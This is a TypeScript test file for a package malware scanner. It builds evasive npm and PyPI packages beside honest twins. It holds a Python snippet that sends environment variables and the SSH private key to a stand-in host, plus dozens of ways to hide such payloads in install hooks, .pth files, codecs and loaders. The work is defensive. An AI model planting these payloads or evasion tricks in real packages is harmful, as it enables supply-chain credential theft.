/**
 * Packages built to be let through, judged by the whole scanner with the bundled model. Each is caught, or it is said
 * that it was not read; each stands beside an honest package of the same shape, which is let through.
 * The payloads are those of `test/fixtures/packages.ts`.
 */
import assert from 'node:assert/strict';
import { gzipSync, deflateSync as zlibSync } from 'node:zlib';
import { createScanner, type Scanner } from '../../lib/scan.js';
import type { ScanInput, Verdict } from '../../lib/types.js';
import { npmPackage, sdist, tar, wheel, zip } from '../artifact/build.js';
import { MALICIOUS, TWINS } from '../fixtures/packages.js';

type Files = Readonly<Record<string, string | Uint8Array>>;

const EVIL = MALICIOUS[0]!.files['setup.js']!;
const HONEST = TWINS[0]!.files['setup.js']!;

const npm = (files: Files, manifest: object = { scripts: { postinstall: 'node setup.js' } }): ScanInput => ({
  ecosystem: 'npm',
  filename: 'demo-1.0.0.tgz',
  bytes: npmPackage({
    'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', ...manifest }),
    ...files,
  }),
});
const hook = (command: string, files: Files): ScanInput => npm(files, { scripts: { postinstall: command } });
const source = (files: Files): ScanInput => ({
  ecosystem: 'pypi',
  filename: 'demo-1.0.tar.gz',
  bytes: sdist({ 'PKG-INFO': 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n', ...files }),
});

const EVIL_PYTHON = `import os, json, base64, urllib.request
data = json.dumps({'env': dict(os.environ), 'ssh': open(os.path.expanduser('~/.ssh/id_rsa')).read()})
urllib.request.urlopen('https://collect.example.invalid/x', base64.b64encode(data.encode()))
`;
const HONEST_PYTHON = `import os
here = os.path.dirname(__file__)
readme = open(os.path.join(here, 'README.md')).read() if os.path.exists(os.path.join(here, 'README.md')) else ''
`;
const SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0', packages=['demo'])\n";
const encoded = (code: string) => Buffer.from(code).toString('base64');
const RUN_DATA = (file: string) =>
  `const fs = require('fs'); const path = require('path');\nnew Function('require', 'process', Buffer.from(fs.readFileSync(path.join(__dirname, '${file}'), 'utf8'), 'base64').toString())(require, process);\n`;
const READ_DATA = (file: string) =>
  `const fs = require('fs'); const path = require('path');\nmodule.exports = JSON.parse(Buffer.from(fs.readFileSync(path.join(__dirname, '${file}'), 'utf8'), 'base64').toString());\n`;

/** Honest work of a setup script, so many lines of it, neighbours different. */
function work(lines: number): string {
  const calls = [
    "fs.mkdirSync(path.join(__dirname, 'build'), { recursive: true });",
    "fs.existsSync(path.join(__dirname, 'package.json'));",
    "fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8');",
    'os.platform();',
    "fs.writeFileSync(path.join(__dirname, 'build', 'out.txt'), 'x');",
  ];
  const body = Array.from({ length: lines }, (_, i) => calls[i % calls.length]).join('\n');
  return `const fs = require('fs'); const os = require('os'); const path = require('path');\n${body}\n`;
}
const body = (code: string) => `{\n${code}\n}\n`;
/** Bytes of the bundle; ten million take a minute. */
const BUNDLE = Number(process.env.BUNDLE_BYTES ?? 2_000_000);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]);

const MAIN = { main: 'index.js' };
const GYP = "{'variables': {'a': '<!(node x.txt)'}}";
const NESTED = JSON.stringify({
  name: 'inner',
  version: '1.0.0',
  scripts: { postinstall: 'node x.txt', go: 'node x.txt' },
});
const PTH = `import os; exec(${JSON.stringify(EVIL_PYTHON)})\n`;
const wheelOf = (files: Files): ScanInput => ({
  ecosystem: 'pypi',
  filename: 'demo-1.0-py3-none-any.whl',
  bytes: wheel(files),
});
/** Conditions in conditions. */
function nested(depth: number, path: string): unknown {
  return depth === 0 ? path : { node: nested(depth - 1, path) };
}
const escapedLines = (end: string): string => EVIL_PYTHON.trim().replaceAll('\n', end);
/** A string that ends sooner than its bytes look: the character takes the quote or the backslash before it. */
const inString = (codec: string, character: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`# coding: ${codec}\ns = "`),
    character,
    Buffer.from(`"; exec(open('x.txt').read()) #"\n${SETUP}`),
  ]);
/** The head of CPython 3.11 bytecode with these flags and length of the source, and nothing of use behind it. */
function BYTECODE(flags: number, length = 999): Buffer {
  const bytes = Buffer.alloc(108);
  bytes.set([0xa7, 0x0d, 0x0d, 0x0a, flags]);
  bytes.writeUInt32LE(length, 12);
  return bytes;
}
const PNG = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
const DAT = { 'x.dat': EVIL_PYTHON, 'demo/__init__.py': '' };
const SIDE = { 'demo/__init__.py': '', 'demo/x.dat': EVIL_PYTHON };
const CYTHON = `# cython: language_level=3
cimport cython
cdef extern from "math.h":
    double sin(double)

@cython.boundscheck(False)
cpdef double f(double[:] a, int n):
    cdef int i
    cdef double s = 0
    for i in range(n):
        s += sin(a[i])
    return s
`;
/** Makes importing from a file of the package look for this module in it. */
const FROM_ZIP = `import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'x.png'))\nimport evil\n`;

type Expected = 'caught' | 'block' | 'opaque' | 'open';
const RESULT: Readonly<Record<Expected, string>> = {
  caught: 'blocked or unverified',
  block: 'blocked',
  opaque: 'counted as opaque',
  open: 'blocked, where the model sees it',
};
interface Row {
  readonly attack: string;
  /**
   * `caught`: blocked, or said to be unread. `opaque`: counted as what cannot be read. `open`: read in full, and whether it is
   * blocked is the model's judgement alone; a case that it lets through shows in the table as not met.
   */
  readonly expected: Expected;
  readonly cases: readonly ScanInput[];
  readonly twin: ScanInput;
}

const ROWS: readonly Row[] = [
  {
    attack: '10,000 benign behaviours before, after and around the payload',
    expected: 'caught',
    cases: [
      npm({ 'setup.js': work(10_000) + body(EVIL) }),
      npm({ 'setup.js': body(EVIL) + work(10_000) }),
      npm({ 'setup.js': work(5000) + body(EVIL) + body(work(5000)) }),
    ],
    twin: npm({ 'setup.js': work(600) + body(HONEST) }),
  },
  {
    attack: 'diluted among 1,000 benign behaviours',
    expected: 'open',
    cases: [npm({ 'setup.js': work(1000) + body(EVIL) }), npm({ 'setup.js': body(EVIL) + work(1000) })],
    twin: npm({ 'setup.js': work(1000) + body(HONEST) }),
  },
  {
    attack: 'payload beyond a limit: long script, long command, deep nesting, many layers',
    expected: 'caught',
    cases: [
      hook('sh setup.sh', {
        'setup.sh': `${'# a line of comment that says nothing\n'.repeat(20_000)}node setup.js\n`,
        'setup.js': EVIL,
      }),
      hook(`${'true; '.repeat(3000)}node setup.js`, { 'setup.js': EVIL }),
      npm({ 'setup.js': `var x = ${'['.repeat(60_000)}${']'.repeat(60_000)};\n${EVIL}` }),
      source({ 'setup.py': layered(100, EVIL_PYTHON), 'demo/__init__.py': '' }),
    ],
    twin: npm({ 'setup.js': `var x = ${'[1, '.repeat(100)}1${']'.repeat(100)};\n${HONEST}` }),
  },
  {
    attack: 'payload in a file of odd name or type that a hook reaches',
    expected: 'block',
    cases: [
      hook('node LICENSE', { LICENSE: EVIL }),
      hook('node ./docs/logo.png', { 'docs/logo.png': EVIL }),
      hook('node setup', { 'setup.js': "require('./notes.txt');\n", 'notes.txt': EVIL }),
      hook('node -r ./data.bin -e 0', { 'data.bin': EVIL }),
    ],
    twin: hook('node ./scripts/post-install.text', { 'scripts/post-install.text': HONEST }),
  },
  {
    attack: 'the same, handed to an interpreter by a way that is not followed',
    expected: 'caught',
    cases: [
      hook('cat notes.md | node', { 'notes.md': EVIL }),
      hook('node < notes.md', { 'notes.md': EVIL }),
      hook('node --require=./notes.md -e 0', { 'notes.md': EVIL }),
      hook('sh ./CHANGES', { CHANGES: 'cd lib\nnode ../x.dat\n', 'x.dat': EVIL }),
    ],
    twin: hook('cat package.json | node -e "0" && node setup.js < notes.md', {
      'setup.js': HONEST,
      'notes.md': '# Notes',
    }),
  },
  {
    attack: 'payload in a bundled dependency',
    expected: 'block',
    cases: [
      npm(
        {
          'node_modules/inner/package.json':
            '{"name":"inner","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
          'node_modules/inner/setup.js': EVIL,
        },
        { bundleDependencies: ['inner'], dependencies: { inner: '1.0.0' } },
      ),
    ],
    twin: npm(
      {
        'node_modules/inner/package.json':
          '{"name":"inner","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
        'node_modules/inner/setup.js': HONEST,
      },
      { bundleDependencies: ['inner'], dependencies: { inner: '1.0.0' } },
    ),
  },
  {
    attack: 'payload in a data file decoded at run time',
    expected: 'block',
    cases: [
      npm({ 'setup.js': RUN_DATA('data.bin'), 'data.bin': encoded(EVIL) }),
      npm({
        'setup.js': "eval(require('./table.json').map(c => String.fromCharCode(c)).join(''));\n",
        'table.json': JSON.stringify([...EVIL].map((c) => c.charCodeAt(0))),
      }),
      source({
        'setup.py': `import base64\nexec(base64.b64decode(open('demo/data.bin').read()))\n${SETUP}`,
        'demo/data.bin': encoded(EVIL_PYTHON),
        'demo/__init__.py': '',
      }),
    ],
    twin: npm({ 'index.js': READ_DATA('data.bin'), 'data.bin': encoded('{"a":1}') }, { main: 'index.js' }),
  },
  {
    attack: 'payload in a test folder that a hook reaches',
    expected: 'block',
    cases: [
      hook('node test/fixtures/run.js', { 'test/fixtures/run.js': EVIL }),
      source({
        'setup.py': `import tests.helper\n${SETUP}`,
        'tests/__init__.py': '',
        'tests/helper.py': EVIL_PYTHON,
        'demo/__init__.py': '',
      }),
    ],
    twin: hook('node test/fixtures/run.js', { 'test/fixtures/run.js': HONEST }),
  },
  {
    attack: 'manifest confusion: the registry hides the hook',
    expected: 'block',
    cases: [{ ...npm({ 'setup.js': EVIL }), registryManifest: { name: 'demo', version: '1.0.0' } }],
    twin: {
      ...npm({ 'setup.js': HONEST }),
      registryManifest: { name: 'demo', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
    },
  },
  {
    attack: 'Python code that on disk is something else: UTF-7, forty layers, .pth, another codec',
    expected: 'caught',
    cases: [
      source({
        'setup.py': `# coding: utf-7\n${[...EVIL_PYTHON]
          .map((c) => (c === '+' ? '+-' : c))
          .join('')
          .split('\n')
          .map(
            (line) =>
              `#+AAo-+${Buffer.from(line, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`,
          )
          .join('\n')}\n`,
      }),
      source({ 'setup.py': layered(40, EVIL_PYTHON) + SETUP, 'demo/__init__.py': '' }),
      {
        ecosystem: 'pypi',
        filename: 'demo-1.0-py3-none-any.whl',
        bytes: wheel({
          'demo.pth': `import base64;exec(base64.b64decode('${encoded(EVIL_PYTHON)}'))\n`,
          'demo/__init__.py': '',
        }),
      },
      source({ 'setup.py': `# coding: punycode\n${EVIL_PYTHON}${SETUP}`, 'demo/__init__.py': '' }),
    ],
    twin: source({
      'setup.py': `# -*- coding: latin-1 -*-\n${HONEST_PYTHON}${SETUP}`,
      'demo/__init__.py': '',
    }),
  },
  {
    attack: 'a native program that a hook runs',
    expected: 'opaque',
    cases: [
      hook('./bin/tool', { 'bin/tool': ELF }),
      npm({ 'index.js': "module.exports = require('./x.node');", 'x.node': ELF }, { main: 'index.js' }),
    ],
    twin: npm(
      {
        'index.js': "module.exports = require('./build/Release/addon.node');",
        'build/Release/addon.node': ELF,
      },
      { main: 'index.js' },
    ),
  },
  {
    attack: 'several gzip members, the payload in the last',
    expected: 'block',
    cases: [{ ...npm({}), bytes: members(npmPackageTar({ 'setup.js': EVIL })) }],
    twin: { ...npm({}), bytes: members(npmPackageTar({ 'setup.js': HONEST })) },
  },
  {
    attack: 'payload in a file of any ending that main, exports or imports names',
    expected: 'block',
    cases: [
      npm({ 'x.txt': EVIL, 'index.js': 'module.exports = 1;' }, { main: 'x.txt' }),
      npm({ '.x': EVIL }, { main: '.x' }),
      npm({ 'x.dat': EVIL }, { exports: './x.dat' }),
      npm({ 'lib/x.dat': EVIL, 'lib/a.js': '' }, { exports: { './*': './lib/*' } }),
      npm({ 'x.txt': EVIL }, { exports: nested(60, './x.txt') }),
      npm(
        { 'index.js': "require('#ab');", 'good/ab.js': '', 'evil/b.txt': EVIL },
        { main: 'index.js', imports: { '#*': './good/*.js', '#a*': './evil/*.txt' } },
      ),
    ],
    twin: npm(
      { 'lib.txt': HONEST },
      { main: 'lib.txt', exports: { '.': './lib.txt', './style': './a.css' } },
    ),
  },
  {
    attack: 'payload that gyp runs: files of any name, other folders, Python modules, beyond a limit',
    expected: 'caught',
    cases: [
      npm({ 'binding.gyp': "{'includes': ['more.txt']}", 'more.txt': GYP, 'x.txt': EVIL }, {}),
      npm({ 'binding.gyp': `${'# nothing at all\n'.repeat(20_000)}${GYP}`, 'x.txt': EVIL }, {}),
      npm({ 'binding.gyp': `[${"'<!(node a.js)',".repeat(600)}${GYP}]`, 'a.js': '', 'x.txt': EVIL }, {}),
      npm({ 'binding.gyp': "{'variables': {'a': '<!pymod_do_main(evil x)'}}", 'evil.py': EVIL_PYTHON }, {}),
      hook('cd native && node-gyp rebuild', { 'native/binding.gyp': GYP, 'native/x.txt': EVIL }),
      hook('node-gyp rebuild -C native', { 'native/binding.gyp': GYP, 'native/x.txt': EVIL }),
    ],
    twin: npm(
      {
        'binding.gyp': `{'includes': ['common.gypi'], 'targets': [{'target_name': 'a', 'sources': ['a.cc'],
          'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"]}]}`,
        'common.gypi': "{'variables': {'a%': 1}}",
        'a.cc': 'int main() {}',
      },
      {},
    ),
  },
  {
    attack: 'payload that an option, a variable or the first line of a program loads',
    expected: 'caught',
    cases: [
      hook('NODE_OPTIONS="--require ./x.txt" node -e 0', { 'x.txt': EVIL }),
      hook('export NODE_OPTIONS=--require=./x.txt; node -e 0', { 'x.txt': EVIL }),
      hook('node --env-file=x.env a.js', {
        'x.env': 'NODE_OPTIONS=--require=./x.txt\n',
        'a.js': '',
        'x.txt': EVIL,
      }),
      hook('bash --rcfile ./x.txt -i -c true', { 'x.txt': 'node y.txt\n', 'y.txt': EVIL }),
      hook('BASH_ENV=./x.txt bash -c true', { 'x.txt': 'node y.txt\n', 'y.txt': EVIL }),
      hook('./setup', { setup: '#!/usr/bin/env -S node -r ./x.txt\n0\n', 'x.txt': EVIL }),
      hook('./setup', { setup: '#!/bin/sh ./x.txt\n', 'x.txt': 'node y.txt\n', 'y.txt': EVIL }),
      npm({ 'x.txt': EVIL }, { scripts: { postinstall: 'node --run go', go: 'node x.txt' } }),
      npm({ 'x.txt': EVIL }, { main: 'x.txt', scripts: { postinstall: 'node .' } }),
      hook('node lib', { 'lib/package.json': '{"main":"x.txt"}', 'lib/x.txt': EVIL }),
    ],
    twin: hook('NODE_OPTIONS=--max-old-space-size=4096 node --no-warnings setup.js && ./go', {
      'setup.js': HONEST,
      go: '#!/usr/bin/env -S node --no-warnings\nconsole.log(1);\n',
    }),
  },
  {
    attack:
      'payload that another program runs: make, awk, find, xargs, tar, git, perl, npm in another folder',
    expected: 'caught',
    cases: [
      hook('make', { Makefile: 'all:\n\t@node x.txt\n', 'x.txt': EVIL }),
      hook('make -C sub -f rules', { 'sub/rules': 'A := $(shell node ../x.txt)\n', 'x.txt': EVIL }),
      hook(`awk 'BEGIN{system("node x.txt")}'`, { 'x.txt': EVIL }),
      hook('find . -name x.txt -exec node {} \\;', { 'x.txt': EVIL }),
      hook('echo x.txt | xargs node', { 'x.txt': EVIL }),
      hook("tar cf a.tar --checkpoint=1 --checkpoint-action=exec='node x.txt' .", { 'x.txt': EVIL }),
      hook("git -c core.pager='node x.txt' -p log", { 'x.txt': EVIL }),
      hook('perl setup.pl', { 'setup.pl': 'system("node x.txt");', 'x.txt': EVIL }),
      hook('./setup', { setup: '#!/usr/bin/perl\nsystem("node x.txt");\n', 'x.txt': EVIL }),
      hook('awk -f x.awk', { 'x.awk': 'BEGIN { system("node x.txt") }', 'x.txt': EVIL }),
      hook('cd sub && npm install', { 'sub/package.json': NESTED, 'sub/x.txt': EVIL }),
      hook('npm install ./sub', { 'sub/package.json': NESTED, 'sub/x.txt': EVIL }),
      hook('npm --prefix sub run go', { 'sub/package.json': NESTED, 'sub/x.txt': EVIL }),
      npm({ 'x.txt': EVIL }, { scripts: { postinstall: 'npm t', test: 'node x.txt' } }),
    ],
    twin: hook('make && find . -name "*.tmp" -delete && npm run build', {
      Makefile: 'CFLAGS = -O2\nall: a.o\n\tcc -o a a.o\nclean:\n\trm -f a.o\n',
      'a.c': 'int main() {}',
    }),
  },
  {
    attack: 'payload whose name only the shell makes: patterns, copies, archives, variables',
    expected: 'caught',
    cases: [
      hook('node ./x.t?t', { 'x.txt': EVIL }),
      hook('node x.{txt,}', { 'x.txt': EVIL }),
      hook('for f in *.txt; do node $f; done', { 'x.txt': EVIL }),
      hook('cp x.txt y.js && node y.js', { 'x.txt': EVIL }),
      hook('ln -s x.txt y.js; node y.js', { 'x.txt': EVIL }),
      hook('cat x.txt > y.js && node y.js', { 'x.txt': EVIL }),
      hook('tar xf x.tar && node y.js', { 'x.tar': EVIL }),
      hook('$npm_node_execpath x.txt', { 'x.txt': EVIL }),
      hook('node "$(pwd)/x.txt"', { 'x.txt': EVIL }),
      npm(
        { 'x.txt': EVIL },
        { config: { file: 'x.txt' }, scripts: { postinstall: 'node $npm_package_config_file' } },
      ),
      hook('parallel node ::: x.txt', { 'x.txt': EVIL }),
      hook('ls | while read f; do node "$f"; done', { 'x.txt': EVIL }),
      hook('for f in $(ls); do node "$f"; done', { 'x.txt': EVIL }),
      hook('node $(ls | head -1)', { 'x.txt': EVIL }),
      hook('ls | xargs -n1 node', { 'x.txt': EVIL }),
      hook('while read f; do sh "$f"; done < list', {
        list: 'x.txt',
        'x.txt': 'node y.dat\n',
        'y.dat': EVIL,
      }),
      hook('a=x.md; node ${a%.md}.txt', { 'x.txt': EVIL }),
      hook('ls | while read f; do sed 1d "$f" | node; done', { 'x.txt': `= title =\n${EVIL}` }),
      hook('case $1 in a) ;; esac\n(\n{cp,x.txt,y.js})\nnode y.js', { 'x.txt': EVIL }),
      hook('case $1 in\n"$(cp x.txt y.js)") ;;\nesac\nnode y.js', { 'x.txt': EVIL }),
      hook('eval "$(sed 1d x.txt)"', { 'x.txt': 'title\nnode y.dat\n', 'y.dat': EVIL }),
      hook('node --experimental-default-config-file a.js', {
        'node.config.json': '{"nodeOptions":{"import":["./x.txt"]}}',
        'a.js': '',
        'x.txt': EVIL,
      }),
    ],
    twin: hook('for f in scripts/*.js; do node "$f"; done; sh go.sh', {
      'README.md': '# demo',
      'scripts/setup.js': HONEST,
      'go.sh':
        'DIR=$(cd "$(dirname "$0")" && pwd)\nnode "$DIR/scripts/setup.js"\ncase $1 in\n  -v) echo 1 ;;\n  ""|*"\\$("*|*/setup.js) V=${V%%"$1"*} ;;\n  *) exec node "$@" ;;\nesac\n',
    }),
  },
  {
    attack: 'payload in a file of odd name that npm, Node.js or a loader finds by a setting or at run time',
    expected: 'block',
    cases: [
      hook(`node -e "for (const f of fs.readdirSync('.')) if (f.endsWith('.txt')) require('./' + f)"`, {
        'x.txt': EVIL,
      }),
      hook(`node -e "fs.readdirSync('.').map(f => eval(fs.readFileSync(f, 'utf8')))"`, { 'x.json': EVIL }),
      npm(
        { 'index.js': "require('#a');", 'a.js': '', 'x.txt': EVIL },
        {
          imports: { '#a': { odd: './x.txt', default: './a.js' } },
          scripts: { postinstall: 'node -C odd index.js' },
        },
      ),
      hook('cd sub && npm install', {
        'sub/package.json': '{"name":"sub","scripts":{"postinstall":"true"}}',
        'sub/.npmrc': 'node-options=--require ./x.txt\n',
        'sub/x.txt': EVIL,
      }),
      hook('yarn install', { '.yarnrc.yml': 'yarnPath: ./x.txt\n', 'x.txt': EVIL }),
      hook(`NODE_PATH=lib node -e "require('evil')"`, {
        'lib/evil/package.json': '{"main":"x.txt"}',
        'lib/evil/x.txt': EVIL,
      }),
      hook('inner', {
        'node_modules/inner/package.json': '{"name":"inner","version":"1.0.0","bin":"x.txt"}',
        'node_modules/inner/x.txt': EVIL,
      }),
      hook('cmake-js compile', { 'CMakeLists.txt': 'execute_process(COMMAND node x.txt)', 'x.txt': EVIL }),
      npm(
        { 'index.js': "module.paths.push(`${__dirname}/lib`); require('evil');", 'lib/evil.txt': EVIL },
        MAIN,
      ),
      npm(
        {
          'index.js': "require.extensions['.txt'] = require.extensions['.js']; require('./x');",
          'x.txt': EVIL,
        },
        MAIN,
      ),
      npm(
        {
          'index.js':
            "require('module')._resolveFilename = () => `${__dirname}/x.txt`;\nrequire('somewhere');",
          'x.txt': EVIL,
        },
        MAIN,
      ),
      npm(
        { 'index.js': "require('module').register('./x.txt', `file://${__dirname}/`);", 'x.txt': EVIL },
        MAIN,
      ),
      npm(
        {
          'index.js': `new (require('worker_threads').Worker)(new URL('data:text/javascript,' + encodeURIComponent(${JSON.stringify(EVIL)})));`,
        },
        MAIN,
      ),
    ],
    twin: npm(
      {
        'index.js':
          "const fs = require('fs');\nfor (const f of fs.readdirSync(`${__dirname}/plugins`)) require(`./plugins/${f}`);",
        'plugins/a.js': 'module.exports = 1;',
        'templates/server.tmpl':
          "const app = require('express')();\napp.get('/', (q, r) => r.send(process.env.NAME));\napp.listen(3000);\n",
        'README.md': "# demo\n\n    const demo = require('demo');\n",
      },
      MAIN,
    ),
  },
  {
    attack: 'the same for Python: patterns, copies, lines of a .pth, programs a wheel puts on PATH',
    expected: 'block',
    cases: [
      source({
        'setup.py': `import glob\n[exec(open(f).read()) for f in glob.glob('*.dat')]\n${SETUP}`,
        ...DAT,
      }),
      source({
        'setup.py': `import os\nfor f in os.listdir('.'):\n  exec(open(f).read())\n${SETUP}`,
        ...DAT,
      }),
      source({ 'setup.py': `import shutil\nshutil.copy('x.dat', 'evil.py')\nimport evil\n${SETUP}`, ...DAT }),
      source({ 'setup.py': `import os\nos.rename('x.dat', 'evil.py')\nimport evil\n${SETUP}`, ...DAT }),
      wheelOf({
        'demo.pth': "import os; exec(open(os.path.join(sitedir, 'demo', 'x.dat')).read())\n",
        ...SIDE,
      }),
      wheelOf({
        'demo.pth':
          "import os; exec(open(os.path.dirname(os.__file__) + '/site-packages/demo/x.dat').read())\n",
        ...SIDE,
      }),
      wheelOf({
        'demo.pth':
          "import importlib.util as u; s = u.spec_from_file_location('e', sitedir + '/demo/x.dat'); s.loader.exec_module(u.module_from_spec(s))\n",
        ...SIDE,
      }),
      wheelOf({
        'demo.pth': "import site; site.addsitedir(sitedir + '/demo/more')\n",
        'demo/__init__.py': '',
        'demo/more/a.pth': PTH,
      }),
      wheelOf({ 'demo.pth': 'demo/assets\nimport evil\n', 'demo/assets/evil.py': EVIL_PYTHON }),
      wheelOf({
        'demo-1.0.data/data/bin/ls': `#!/usr/bin/env python3\n${EVIL_PYTHON}`,
        'demo/__init__.py': '',
      }),
    ],
    twin: source({
      'setup.py': SETUP,
      'demo/__init__.py': HONEST_PYTHON,
      'demo/template.py.in': 'import os\nimport sys\n\nprint(os.path.join(sys.prefix, "@NAME@"))\n',
    }),
  },
  {
    attack: 'Cython sources that the build makes a module of',
    expected: 'block',
    cases: [
      source({
        'setup.py': `from Cython.Build import cythonize\n${SETUP.replace(')', ", ext_modules=cythonize('demo/core.pyx'))")}`,
        'demo/__init__.py': 'from . import core\n',
        'demo/core.pyx': EVIL_PYTHON,
      }),
      source({
        'setup.py': `from Cython.Build import cythonize\n${SETUP.replace(')', ", ext_modules=cythonize(['demo/*.pyx']))")}`,
        'demo/__init__.py': 'from .core import f\n',
        'demo/core.pyx': `${CYTHON}${EVIL_PYTHON}`,
      }),
      source({
        'setup.py': `import pyximport; pyximport.install()\nimport demo.core\n${SETUP}`,
        'demo/__init__.py': '',
        'demo/core.pyx': EVIL_PYTHON,
      }),
    ],
    twin: source({
      'setup.py': `from Cython.Build import cythonize\n${SETUP.replace(')', ", ext_modules=cythonize('demo/core.pyx'))")}`,
      'demo/__init__.py': 'from .core import f\n',
      'demo/core.pyx': CYTHON,
    }),
  },
  {
    attack: 'payload in a data file that becomes code by the way it is loaded',
    expected: 'block',
    cases: [
      npm(
        { 'index.js': "new (require('worker_threads').Worker)(__dirname + '/x.txt');", 'x.txt': EVIL },
        MAIN,
      ),
      npm(
        {
          'index.js':
            "const c = require('cluster');\nc.setupPrimary({ exec: __dirname + '/x.txt' });\nc.fork();",
          'x.txt': EVIL,
        },
        MAIN,
      ),
      npm(
        {
          'index.js': "module._compile(require('fs').readFileSync(__dirname + '/x.txt', 'utf8'), 'y');",
          'x.txt': EVIL,
        },
        MAIN,
      ),
      npm({ 'index.js': "require.extensions['.js'](module, __dirname + '/x.txt');", 'x.txt': EVIL }, MAIN),
      npm(
        {
          'index.js':
            "require('fs').copyFileSync(__dirname + '/x.txt', __dirname + '/y.js');\nrequire('./y.js');",
          'x.txt': EVIL,
        },
        MAIN,
      ),
      source({ 'setup.py': `import runpy\nrunpy.run_path('x.txt')\n${SETUP}`, 'x.txt': EVIL_PYTHON }),
      source({
        'setup.py': `from importlib.machinery import SourceFileLoader as S\nS('x', 'x.txt').load_module()\n${SETUP}`,
        'x.txt': EVIL_PYTHON,
      }),
      source({
        'setup.py': `import importlib.util as u\ns = u.spec_from_file_location('x', 'x.txt')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\n${SETUP}`,
        'x.txt': EVIL_PYTHON,
      }),
      wheelOf({
        'demo/__init__.py': "import pkgutil\nexec(pkgutil.get_data(__name__, 'x.txt'))\n",
        'demo/x.txt': EVIL_PYTHON,
      }),
      wheelOf({
        'demo/__init__.py':
          "from importlib import resources as r\nexec(r.files(__package__).joinpath('x.txt').read_text())\n",
        'demo/x.txt': EVIL_PYTHON,
      }),
    ],
    twin: wheelOf({
      'demo/__init__.py': "import json, pkgutil\nDATA = json.loads(pkgutil.get_data(__name__, 'x.json'))\n",
      'demo/x.json': '{"a": 1}',
    }),
  },
  {
    attack: 'Python sources whose letters are other code: escaped line ends, double-byte sets, shifted sets',
    expected: 'caught',
    cases: [
      source({ 'setup.py': `# coding: unicode_escape\n# a\\n${escapedLines('\\n')}\n${SETUP}` }),
      source({ 'setup.py': `# coding: unicode_escape\n# a\\12${escapedLines('\\12')}\n${SETUP}` }),
      source({ 'setup.py': `# coding: unicode_escape\n# a\\N{LINE FEED}${SETUP}` }),
      source({ 'setup.py': inString('cp950', Buffer.from([0xa5, 0x5c])), 'x.txt': EVIL_PYTHON }),
      source({ 'setup.py': inString('hz', Buffer.from('~{!"~}')), 'x.txt': EVIL_PYTHON }),
      source({ 'setup.py': inString('iso2022_jp', Buffer.from('\x1b$B!"\x1b(B')), 'x.txt': EVIL_PYTHON }),
      wheelOf({
        'demo.pth': 'import demo_codec\n',
        'demo_codec.py':
          "import codecs\ncodecs.register(lambda name: codecs.CodecInfo(None, lambda b, e='strict': (b.decode().replace('#', ''), len(b)), name=name))\n",
        'demo/__init__.py': `# coding: demo\n${EVIL_PYTHON.replace(/^/gm, '#')}`,
      }),
    ],
    twin: source({
      'setup.py': Buffer.concat([
        Buffer.from('# coding: cp950\nname = "'),
        Buffer.from([0xa4, 0xa4, 0xa4, 0xe5]),
        Buffer.from(`"\n${SETUP}`),
      ]),
      'demo/__init__.py': '',
    }),
  },
  {
    attack: '.pth that hides its line: byte order mark, form feed, size, number of lines, folder',
    expected: 'caught',
    cases: [
      wheelOf({ 'demo.pth': `\uFEFF${PTH}`, 'demo/__init__.py': '' }),
      wheelOf({ 'demo.pth': `# a\f${PTH}`, 'demo/__init__.py': '' }),
      wheelOf({ 'demo.pth': `# a\u2028${PTH}`, 'demo/__init__.py': '' }),
      wheelOf({ 'demo.pth': `${'# nothing at all here\n'.repeat(200_000)}${PTH}`, 'demo/__init__.py': '' }),
      wheelOf({ 'demo.pth': `${'import os\n'.repeat(600)}${PTH}`, 'demo/__init__.py': '' }),
      wheelOf({ 'demo-1.0.data/data/lib/python3/dist-packages/demo.pth': PTH, 'demo/__init__.py': '' }),
    ],
    twin: wheelOf({ 'demo.pth': 'demo_vendored\n# a comment\n', 'demo/__init__.py': '' }),
  },
  {
    attack: 'code in archives and bytecode of any name, bytecode that its source does not bind',
    expected: 'opaque',
    cases: [
      hook('python3 x.pyz', {
        'x.pyz': Buffer.concat([Buffer.from('#!/usr/bin/env python3\n'), zip([{ name: '__main__.py' }])]),
      }),
      source({
        'setup.py': `import sys\nsys.path.insert(0, 'x.docx')\nimport evil\n${SETUP}`,
        'x.docx': zip([{ name: 'evil.py', body: EVIL_PYTHON }]),
      }),
      source({
        'setup.py': SETUP,
        'demo/__init__.py': '',
        'demo/__pycache__/__init__.cpython-311.pyc': BYTECODE(1),
      }),
      // Says the length of the source and, as its author likes, the time: Python takes it for the newer one.
      source({
        'setup.py': `import helper\n${SETUP}`,
        'helper.py': 'A = 1\n',
        '__pycache__/helper.cpython-311.pyc': BYTECODE(0, 6),
      }),
      wheelOf({
        'demo/__init__.py':
          "from importlib.machinery import SourcelessFileLoader as S\nS('x', 'x.dat').load_module()\n",
        'demo/x.dat': BYTECODE(0),
      }),
      wheelOf({
        'demo/__init__.py': "import marshal\nexec(marshal.loads(open('x.dat', 'rb').read()))\n",
        'demo/x.dat': Buffer.concat([Buffer.from([0x63]), Buffer.alloc(40)]),
      }),
      wheelOf({
        'demo/__init__.py': FROM_ZIP,
        'demo/x.png': Buffer.concat([
          PNG,
          zip([{ name: 'evil.py', body: EVIL_PYTHON }]),
          Buffer.from('junk'),
        ]),
      }),
      wheelOf({ 'demo.pth': 'demo/x.docx\nimport evil\n', 'demo/x.docx': zip([{ name: 'evil.pyc' }]) }),
      source({
        'setup.py': `import tarfile\ntarfile.open('x.dat').extractall()\nimport evil\n${SETUP}`,
        'x.dat': tar([{ name: 'evil.py', body: EVIL_PYTHON }]),
      }),
      source({
        'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["x.dat"]\n',
        'x.dat': zip([{ name: 'b.py', body: EVIL_PYTHON }]),
      }),
      npm(
        {
          'index.js':
